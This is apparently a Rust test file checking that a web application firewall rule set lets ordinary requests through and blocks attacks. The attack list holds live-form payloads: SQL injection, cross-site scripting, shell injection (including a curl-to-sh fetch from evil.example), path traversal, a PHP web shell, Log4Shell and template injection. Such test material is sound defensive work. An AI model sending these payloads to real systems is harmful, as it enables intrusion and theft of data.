//! What the rule set refuses as it is installed: paranoia 1, threshold 5.

mod support;

use support::request::Request;
use support::run::play;

/// Requests of ordinary people and programs.
fn ordinary() -> Vec<Request> {
    let mut requests: Vec<Request> = [
        "/",
        "/index.html",
        "/favicon.ico",
        "/robots.txt",
        "/products?page=2&sort=price-asc",
        "/search?q=red+running+shoes",
        "/search?q=caf%C3%A9+cr%C3%A8me",
        "/search?q=C%2B%2B+or+Rust",
        "/search?q=O%27Reilly+books",
        "/search?q=select+a+chair+from+our+range",
        "/search?q=rock+%26+roll",
        "/search?q=50%25+off",
        "/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E",
        "/users/42/orders?from=2026-01-01&to=2026-02-01",
        "/assets/app.3f9c1d.js?v=1.2.3",
        "/img/logo@2x.png",
        "/api/v1/items?ids=1,2,3&fields=name,price",
        "/a/b/c/d/e/",
        "/login?next=%2Faccount%2Fsettings",
        "/callback?code=4%2F0AX4XfWh&state=xyzABC123&scope=openid+email",
        "/news/2026/11/24/how-to-drop-off-a-table",
        "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
        "/feed.xml",
        "/docs/getting-started",
        "/map?lat=52.5200&lng=13.4050&zoom=12",
        "/calc?expr=1+%2B+2",
        "/tags/c%23",
        "/profile/jean-luc.picard",
        "/wp-content/uploads/2026/10/photo.jpg",
        "/filter?color[]=red&color[]=blue",
        "/t?d=2026-11-24T20:22:00Z",
        "/i?uuid=550e8400-e29b-41d4-a716-446655440000",
    ]
    .map(Request::get)
    .to_vec();
    requests.extend(
        [
            "name=Ada+Lovelace&email=ada%40example.com&message=Hello%2C+do+you+ship+to+Norway%3F",
            "username=ada&password=correct+horse+battery+staple&remember=1",
            "title=Meeting+notes&body=We+agreed%3A%0D%0A-+ship+on+Friday%0D%0A-+order+cake",
            "street=12+Main+St.&city=K%C3%B6ln&zip=50667&country=DE&phone=%2B49+221+123456&note=&a=1&b=2",
            "q=who+is+the+union+representative", "comment=I+%3C3+this+shop%21",
            "amount=1%2C299.00&currency=EUR", "csrf=dGhpcyBpcyBhIHRva2Vu&action=save",
            "text=If+you+select+one%2C+you+get+two+from+us.", "quantity=3&sku=AB-12-XY",
        ]
        .map(|body| Request::form("/form", body)),
    );
    requests.extend(
        [
            r#"{"name":"Ada","tags":["math","engines"],"address":{"city":"London","zip":"W1"}}"#,
            r#"{"query":"shoes","page":2,"filters":{"size":[42,43],"inStock":true},"sort":null}"#,
            r#"{"items":[{"sku":"A-1","qty":2},{"sku":"B-2","qty":1}],"note":"Please ring twice"}"#,
            r#"{"email":"ada@example.com","message":"It's great - thanks!"}"#,
            r#"{"lat":52.52,"lng":13.405,"ts":"2026-11-24T20:22:00Z","ok":false}"#,
        ]
        .map(|body| Request::json("/api/items", body)),
    );
    let multipart = "--x1\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHolidays\r\n--x1\r\n\
        Content-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\n\
        Content-Type: image/jpeg\r\n\r\nJFIF0123\r\n--x1--\r\n";
    requests.push(Request::post("/upload", "multipart/form-data; boundary=x1", multipart));
    let xml = "<?xml version=\"1.0\"?><order id=\"7\"><sku>A-1</sku><qty>2</qty></order>";
    requests.push(Request::post("/soap", "application/xml", xml));
    let cookie =
        "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark; _ga=GA1.2.123456789.1700000000";
    requests.push(
        Request::get("/").with("Cookie", cookie).with("Referer", "https://shop.example/?q=a"),
    );
    requests.push(
        Request::get("/api")
            .with("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln"),
    );
    requests.push(
        Request::get("/")
            .with("If-None-Match", "\"33a64df5\"")
            .with("Accept-Encoding", "gzip, deflate, br"),
    );
    requests
}

/// Requests that nobody sends in good faith, and what they are.
fn attacks() -> Vec<(&'static str, Request)> {
    let get = |target| Request::get(target);
    let form = |body| Request::form("/form", body);
    vec![
        ("SQL: always true", get("/?id=1%27%20OR%20%271%27%3D%271")),
        ("SQL: union", get("/?id=1+UNION+SELECT+username,password+FROM+users--")),
        ("SQL: sleep", form("id=1%3B+SELECT+pg_sleep%2810%29--")),
        ("SQL in JSON", Request::json("/api", r#"{"id":"1' UNION SELECT null,version()-- -"}"#)),
        ("SQL in a cookie", get("/").with("Cookie", "id=1' or sleep(5)#")),
        ("script", get("/?q=%3Cscript%3Ealert(1)%3C/script%3E")),
        ("script in an event", form("name=%3Cimg+src%3Dx+onerror%3Dalert%281%29%3E")),
        ("script: encoded twice", get("/?q=%253Cscript%253Ealert(1)%253C/script%253E")),
        (
            "script in JSON",
            Request::json("/api", r#"{"a":"\u003cscript\u003ealert(1)\u003c/script\u003e"}"#),
        ),
        ("script: javascript URL", get("/?u=javascript:alert(document.cookie)")),
        ("shell", get("/?host=127.0.0.1;cat%20/etc/passwd")),
        ("shell: substitution", form("file=%24%28curl+http%3A%2F%2Fevil.example%2Fx%7Csh%29")),
        ("shell: PowerShell", get("/?cmd=powershell.exe+-enc+SQBFAFgA")),
        ("traversal", get("/download?file=../../../../etc/passwd")),
        ("traversal: encoded", get("/download?file=..%252f..%252f..%252fetc%252fpasswd")),
        ("remote file", get("/?page=http://203.0.113.9/shell.txt?")),
        ("PHP", form("x=%3C%3Fphp+system%28%24_GET%5B%27c%27%5D%29%3B%3F%3E")),
        ("PHP: wrapper", get("/?page=php://filter/convert.base64-encode/resource=index")),
        ("Java: Log4Shell", get("/").with("User-Agent", "${jndi:ldap://evil.example/a}")),
        ("Java: Spring", form("class.module.classLoader.resources.context.parent.pipeline=1")),
        (
            "templates",
            get(
                "/?name={{constructor.constructor('return+process')()}}&x=__proto__[a]=1;process.mainModule.require('child_process')",
            ),
        ),
        ("scanner", get("/").with("User-Agent", "sqlmap/1.7")),
        ("a file nobody serves", get("/.git/config")),
        ("response splitting", get("/?u=%0d%0aSet-Cookie:%20a=b")),
        ("a method nobody allows", Request { method: "TRACE".to_owned(), ..Request::get("/") }),
        (
            "XML: script",
            Request::post("/soap", "text/xml", "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>"),
        ),
        (
            "multipart: ambiguous",
            Request::post("/up", "multipart/form-data; boundary=\"b\"", "--b\nx\n--b--"),
        ),
    ]
}

#[test]
fn ordinary_requests_pass_and_attacks_do_not() {
    let Some(data) = support::data() else {
        support::say_missing("blocking");
        return;
    };
    let engine = support::engine(&data, support::AS_INSTALLED).unwrap_or_else(|e| panic!("{e}"));
    let mut wrong = Vec::new();
    for request in ordinary() {
        let outcome = play(&engine, &request);
        if let Some(interruption) = outcome.interruption {
            let what = String::from_utf8_lossy(&request.target).into_owned();
            let body = String::from_utf8_lossy(&request.body).into_owned();
            let ids: Vec<_> = outcome.matches.iter().map(|m| m.rule).collect();
            wrong.push(format!("refused by {}: {what} {body}: {ids:?}", interruption.rule));
        }
    }
    for (what, request) in attacks() {
        let outcome = play(&engine, &request);
        if outcome.interruption.is_none() {
            let ids: Vec<_> = outcome.matches.iter().map(|m| m.rule).collect();
            wrong.push(format!("passed: {what}: score {}, {ids:?}", outcome.score));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}
